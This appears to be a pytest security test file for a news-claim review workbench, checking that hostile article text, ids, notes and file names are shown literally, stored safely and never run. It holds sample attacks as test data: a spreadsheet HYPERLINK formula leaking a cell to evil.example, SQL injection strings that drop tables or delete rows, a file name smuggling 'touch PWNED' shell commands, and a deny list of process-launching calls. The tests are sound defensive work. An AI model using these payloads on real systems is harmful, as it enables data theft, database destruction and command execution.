"""Hostile article text, ids, notes and file names: shown literally, stored as given, never run.

* Article text reaches the review UI as plain text: Rich/Textual markup in it (`[bold red]`, `[@click=app.quit]`)
  is displayed as typed and does nothing when clicked (end to end: a real article through ingest into the app).
* SQL goes through parameters only: quotes, `; DROP TABLE`, and FTS syntax as ids, notes and searches break nothing.
* CSV export neutralises spreadsheet formulas that came from an article (one end-to-end case; export's own tests
  cover the rest).
* Paths stored in the database are data: a file named like a shell command is never executed, and the package
  has no code that could run one.
"""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
from processes import REPO_ROOT, assert_no_traceback, assert_one_line_error, run_workbench, sqlite_connection

from workbench.claims_view import ClaimsView
from workbench.ingest import ingest_paths
from workbench.review import update_review
from workbench.store import open_store

HOSTILE_ARTICLE = """[bold red]ALERT[/] Drone strike reported near the Kremlin

(Wire Service) - The ministry said that [bold red]ALERT[/] sirens sounded in 12 districts of Moscow on Tuesday night.

Officials said that [@click=app.quit]click[/] was the name of the operation that brought down 7 drones over the city.

=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source") said the mayor on Wednesday, citing 40 witnesses.
"""

SHELL_LIKE_NAME = "$(touch PWNED);`touch PWNED2`;.txt"


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "hostile.txt").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    db_path = tmp_path / "hostile.db"
    with open_store(db_path) as store:
        report = ingest_paths(store, [folder])
    assert report.ok and report.added, report.failed
    return db_path


def claim_with(db_path: Path, fragment: str) -> str:
    with sqlite_connection(db_path, readonly=True) as conn:
        row = conn.execute("SELECT id FROM claims WHERE instr(text, ?) > 0", [fragment]).fetchone()
    assert row is not None, f"no claim contains {fragment!r}"
    return row[0]


_SVG_TEXT = re.compile(
    r'<text class="[^"]*" x="([\d.]+)" y="[\d.]+" textLength="[\d.]+" '
    r'clip-path="url\(#[\w-]*-line-(\d+)\)">(.*?)</text>',
    re.S,
)
_SVG_CHAR_WIDTH = 12.2  # Textual's screenshot lays out one terminal cell per 12.2 px


def screen_lines(app: object, width: int, height: int) -> list[str]:
    """What the terminal shows, cell by cell, rebuilt from the app's own screenshot (styling dropped)."""
    grid = [[" "] * width for _ in range(height)]
    for x, line, content in _SVG_TEXT.findall(app.export_screenshot()):  # type: ignore[attr-defined]
        column, row = round(float(x) / _SVG_CHAR_WIDTH), int(line)
        for offset, char in enumerate(html.unescape(re.sub(r"<[^>]+>", "", content)).replace("\xa0", " ")):
            if row < height and column + offset < width:
                grid[row][column + offset] = char
    return ["".join(cells) for cells in grid]


async def test_article_markup_is_displayed_literally_and_clicking_it_does_nothing(hostile_db: Path) -> None:
    from workbench.ui.app import create_app

    width, height = 160, 40
    app = create_app(hostile_db, "ana", poll_seconds=0)
    async with app.run_test(size=(width, height)) as pilot:
        await pilot.pause()
        for presses, markup in ((0, "[bold red]ALERT[/]"), (1, "[@click=app.quit]click[/]")):
            for _ in range(presses):  # select the claim whose text carries this markup (document order)
                await pilot.press("j")
            await pilot.pause()
            lines = screen_lines(app, width, height)
            places = [(row, line.find(markup)) for row, line in enumerate(lines) if markup in line]
            # the claims list and the detail pane both show the selected claim's text
            assert len(places) >= 2, f"{markup!r} is not on screen as typed:\n" + "\n".join(lines)
            for row, column in places:
                # click on the markup itself: a live [@click=app.quit] link would end the app here
                await pilot.click(offset=(column + 2, row))
                await pilot.click(offset=(column + len(markup) - 2, row))
                await pilot.pause()
                assert app.is_running and app.return_code is None, f"clicking {markup!r} ran an action"


def test_article_markup_is_stored_and_exported_verbatim(hostile_db: Path) -> None:
    with sqlite_connection(hostile_db, readonly=True) as conn:
        title, text = conn.execute("SELECT title, text FROM documents").fetchone()
    assert title == "[bold red]ALERT[/] Drone strike reported near the Kremlin"
    assert "[@click=app.quit]click[/]" in text
    exported = run_workbench("export", "--format", "markdown", "--db", str(hostile_db), timeout=30)
    assert exported.returncode == 0, exported.stderr
    status = run_workbench("status", "--db", str(hostile_db), timeout=30)
    assert status.returncode == 0 and "[bold red]ALERT[/] Drone strike" in status.stdout, status.stdout


def test_csv_export_neutralises_a_formula_from_an_article(hostile_db: Path) -> None:
    formula_claim = claim_with(hostile_db, "HYPERLINK")
    with open_store(hostile_db) as store:
        update_review(store, formula_claim, reviewer="ana", status="false", note="=1+2 @SUM(A1) -3")
    exported = run_workbench("export", "--format", "csv", "--db", str(hostile_db), timeout=30)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"live formula in CSV: {cell!r}"
    assert "'=1+2 @SUM(A1) -3" in cells


SQL_AND_FTS_TRAPS = [
    "'; DROP TABLE claims; --",
    '" OR 1=1 --',
    "c1' OR '1'='1",
    "Robert'); DELETE FROM reviews; --",
    'NEAR(putin kremlin) AND "',
    "text: * OR claimant:*",
    "putin*",
    '"unterminated',
    "(((",
    "^start",
    "AND OR NOT",
    "-putin",
    "%_%",
    "\x00",
    "\u202e",
]


def table_counts(db_path: Path) -> dict[str, int]:
    with sqlite_connection(db_path, readonly=True) as conn:
        names = [row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {name: conn.execute(f'SELECT COUNT(*) FROM "{name}"').fetchone()[0] for name in names}


@pytest.mark.parametrize("trap", SQL_AND_FTS_TRAPS)
def test_sql_and_fts_syntax_as_search_is_harmless(trap: str, hostile_db: Path) -> None:
    before = table_counts(hostile_db)
    with open_store(hostile_db) as store:
        view = ClaimsView(store)
        view.search = trap
        view.reload()  # must not raise: user input never reaches SQL or FTS syntax unquoted
        assert 0 <= view.count <= before["claims"]
    assert table_counts(hostile_db) == before


def test_sql_in_claim_ids_notes_and_statuses_through_the_cli(hostile_db: Path) -> None:
    before = table_counts(hostile_db)
    for trap in SQL_AND_FTS_TRAPS[:2]:
        missing = run_workbench("set", trap, "--status", "true", "--db", str(hostile_db), timeout=30)
        assert_one_line_error(missing, "no claim")
        bad_status = run_workbench("set", "c1", "--status", trap, "--db", str(hostile_db), timeout=30)
        assert bad_status.returncode != 0
        assert_no_traceback(bad_status)
    assert table_counts(hostile_db) == before

    claim_id = claim_with(hostile_db, "sirens")
    for trap in SQL_AND_FTS_TRAPS[2:4]:
        stored = run_workbench("set", claim_id, "--note", trap, "--db", str(hostile_db), timeout=30)
        assert stored.returncode == 0, stored.stderr
        with sqlite_connection(hostile_db, readonly=True) as conn:
            assert conn.execute("SELECT note FROM reviews WHERE claim_id = ?", [claim_id]).fetchone()[0] == trap
    after = table_counts(hostile_db)
    assert {name: count for name, count in after.items() if name != "review_history"} == {
        name: count for name, count in before.items() if name != "review_history"
    }
    exported = json.loads(run_workbench("export", "--format", "json", "--db", str(hostile_db)).stdout)
    assert any(claim["note"] == SQL_AND_FTS_TRAPS[3] for claim in exported["claims"])


def test_file_names_that_look_like_shell_commands_are_never_run(tmp_path: Path) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / SHELL_LIKE_NAME).write_text(
        "Headline\n\nThe mayor said that 14 roads were closed for six hours on Wednesday.\n", encoding="utf-8"
    )
    db_path = tmp_path / "wb.db"
    for command in (
        ["ingest", str(folder)],
        ["status"],
        ["export", "--format", "markdown"],
    ):
        result = run_workbench(*command, "--db", str(db_path), cwd=tmp_path, timeout=30)
        assert result.returncode == 0, result.stderr
    assert not list(tmp_path.rglob("PWNED*")), "a stored file name was executed"
    with sqlite_connection(db_path, readonly=True) as conn:
        assert conn.execute("SELECT file_name FROM documents").fetchone()[0] == SHELL_LIKE_NAME


FORBIDDEN_CALLS = {
    ("os", "system"),
    ("os", "popen"),
    ("os", "startfile"),
    ("os", "execv"),
    ("os", "execvp"),
    ("os", "spawnv"),
    ("subprocess", "run"),
    ("subprocess", "Popen"),
    ("subprocess", "call"),
    ("subprocess", "check_call"),
    ("subprocess", "check_output"),
    ("webbrowser", "open"),
}


def test_no_code_path_can_execute_a_stored_path() -> None:
    """The package never starts programs or evaluates strings, so a path or text from the DB cannot be run."""
    offenders: list[str] = []
    for source in sorted((REPO_ROOT / "workbench").rglob("*.py")):
        tree = ast.parse(source.read_text(encoding="utf-8"), filename=str(source))
        for node in ast.walk(tree):
            where = f"{source.relative_to(REPO_ROOT)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Call):
                function = node.func
                if isinstance(function, ast.Name) and function.id in {"eval", "exec", "compile", "__import__"}:
                    offenders.append(f"{where} calls {function.id}()")
                if (
                    isinstance(function, ast.Attribute)
                    and isinstance(function.value, ast.Name)
                    and (function.value.id, function.attr) in FORBIDDEN_CALLS
                ):
                    offenders.append(f"{where} calls {function.value.id}.{function.attr}()")
                if any(keyword.arg == "shell" for keyword in node.keywords):
                    offenders.append(f"{where} passes shell=")
            if isinstance(node, ast.ImportFrom) and node.module in {"subprocess", "webbrowser", "pickle", "marshal"}:
                offenders.append(f"{where} imports from {node.module}")
            if isinstance(node, ast.Import) and any(
                alias.name in {"subprocess", "webbrowser", "pickle", "marshal"} for alias in node.names
            ):
                offenders.append(f"{where} imports {', '.join(alias.name for alias in node.names)}")
    assert offenders == []


def test_sqlite_statements_in_the_package_take_no_user_text_by_formatting() -> None:
    """SQL built with f-strings may only splice in placeholders, column names and fixed fragments.

    A heuristic guard: an f-string that contains SQL keywords must not splice a value that is quoted in the SQL
    (`'{value}'`), which is how injected text would end up inside a statement.
    """
    quoted_splice = re.compile(r"""['"]\{[^}]+\}['"]""")
    offenders: list[str] = []
    for source in sorted((REPO_ROOT / "workbench").rglob("*.py")):
        tree = ast.parse(source.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.JoinedStr):
                text = ast.unparse(node)
                if re.search(r"\b(SELECT|INSERT|UPDATE|DELETE|WHERE|MATCH)\b", text) and quoted_splice.search(text):
                    offenders.append(f"{source.relative_to(REPO_ROOT)}:{node.lineno}: {text[:100]}")
    assert offenders == []


def test_database_text_with_nul_and_control_characters_round_trips(tmp_path: Path) -> None:
    db_path = tmp_path / "wb.db"
    with open_store(db_path) as store, store.write() as db:
        db["claims"].insert({"id": "c1", "text": "x"})
        db["reviews"].insert({"claim_id": "c1", "status": "unreviewed", "note": ""})
    note = "line one\nline two\x1b[31m red?\x07 \u202e reversed"
    result = run_workbench("set", "c1", "--note", note, "--db", str(db_path), timeout=30)
    assert result.returncode == 0, result.stderr
    with sqlite_connection(db_path, readonly=True) as conn:
        assert conn.execute("SELECT note FROM reviews WHERE claim_id = 'c1'").fetchone()[0] == note
